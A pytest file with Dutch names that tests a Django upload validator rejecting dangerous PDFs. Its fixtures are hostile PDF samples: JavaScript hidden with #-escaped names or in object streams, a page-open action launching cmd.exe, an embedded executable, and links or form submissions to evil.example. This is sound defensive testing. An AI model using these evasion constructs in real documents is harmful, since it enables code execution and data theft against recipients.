"""PDFs are parsed (pypdf), not searched: scripts, dangerous actions and embedded files are
refused however they are written, also inside compressed object streams."""

import pytest
from django.core.exceptions import ValidationError

from inzendingen.uploads import _PDF_SCRIPT, controleer_pdf

from . import pdfs

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def _geweigerd(inhoud: bytes) -> str:
    with pytest.raises(ValidationError) as fout:
        controleer_pdf(inhoud)
    return fout.value.messages[0]


def test_gewone_pdf_met_een_link_mag():
    controleer_pdf(pdfs.gewone_pdf())
    controleer_pdf(pdfs.met_catalogus(b"/OpenAction [3 0 R /Fit]"))  # opens at page 1: fine
    controleer_pdf(
        pdfs.met_catalogus(b"/OpenAction 4 0 R", {4: b"<< /S /GoTo /D [3 0 R /Fit] >>"}, {4})
    )


# Each of these passes the byte search that used to be the only check.
VERBORGEN = {
    "naam met #-codes": pdfs.met_catalogus(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "script in een objectstroom": pdfs.met_catalogus(
        b"/OpenAction 4 0 R", {4: SCRIPT}, in_stroom={4}
    ),
    "script dat nergens naar verwijst, in een objectstroom": pdfs.met_catalogus(
        b"", {9: SCRIPT}, in_stroom={3, 9}
    ),
    "script in de namenboom": pdfs.met_catalogus(
        b"/Names 4 0 R",
        {4: b"<< /J#61vaScript 5 0 R >>", 5: b"<< /Names [(a) 6 0 R] >>", 6: SCRIPT},
        in_stroom={4, 5, 6},
    ),
    "programma starten bij openen van de pagina (AA)": pdfs.pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: pdfs.PAGINA[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O 4 0 R >> >>",
            4: b"<< /S /Launch /F (cmd.exe) >>",
        },
        in_stroom={3, 4},
    ),
    "ingesloten bestand in de namenboom": pdfs.met_catalogus(
        b"/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>",
        {
            4: b"<< /Type /Filespec /F (a.exe) /E#46 << /F 5 0 R >> >>",
            5: b"<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream",
        },
        in_stroom={4},
    ),
    "bijlage als aantekening op de pagina": pdfs.pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: pdfs.PAGINA[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /File#41ttachment /Rect [0 0 9 9] /FS (a.exe) >>",
        },
        in_stroom={3, 4},
    ),
    "link met javascript:": pdfs.met_catalogus(
        b"/OpenAction << /S /URI /URI (javascript:alert(1)) >>"
    ),
    "link naar een bestand op een netwerkschijf": pdfs.met_catalogus(
        b"/OpenAction 4 0 R", {4: b"<< /S /URI /URI (FILE://evil.example/share/a) >>"}, {4}
    ),
    "formulier dat gegevens verstuurt": pdfs.met_catalogus(
        b"/OpenAction 4 0 R", {4: b"<< /S /SubmitForm /F (https://evil.example/) >>"}, {4}
    ),
}


@pytest.mark.parametrize("inhoud", VERBORGEN.values(), ids=VERBORGEN.keys())
def test_scripts_en_bijlagen_worden_ook_verstopt_gevonden(inhoud):
    assert not any(teken in inhoud for teken in _PDF_SCRIPT)  # the old check saw nothing
    assert "programmacode of ingesloten bestanden" in _geweigerd(inhoud)


def test_bijlage_die_pypdf_zelf_insluit_wordt_geweigerd():
    assert "ingesloten bestanden" in _geweigerd(pdfs.pypdf_met(pdfs.met_bijlage))


def test_versleutelde_pdf_wordt_geweigerd():
    assert "beveiligd met een wachtwoord" in _geweigerd(pdfs.pypdf_met(pdfs.versleuteld))


@pytest.mark.parametrize(
    "inhoud",
    [b"%PDF-1.4\nniets\n%%EOF\n", pdfs.gewone_pdf()[:200], b"%PDF-1.7\n" + b"\x00" * 5000],
    ids=["geen structuur", "afgebroken", "nullen"],
)
def test_kapotte_pdf_krijgt_een_duidelijke_melding(inhoud):
    assert "beschadigd of geen echte PDF" in _geweigerd(inhoud)


def test_te_veel_objecten_wordt_niet_doorgelopen():
    inhoud = pdfs.met_catalogus(b"").replace(b"/Size 6", b"/Size 90000000")
    assert "te ingewikkeld" in _geweigerd(inhoud)
